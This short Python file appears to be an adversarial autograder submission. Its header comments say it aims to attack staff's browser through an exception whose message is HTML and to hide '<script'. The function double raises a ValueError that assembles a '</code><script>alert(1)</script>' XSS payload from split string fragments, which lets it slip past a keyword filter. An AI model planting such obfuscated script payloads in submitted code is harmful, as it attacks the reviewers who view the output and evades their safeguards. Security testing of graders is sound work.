# attacks = "staff's browser, by an exception whose message is HTML"
# points = { double = 0 }
# hides = ["<script"]
# %% double
def double(x):
    raise ValueError("</code>" + "<scr" + "ipt>alert(1)" + "</scr" + "ipt>")
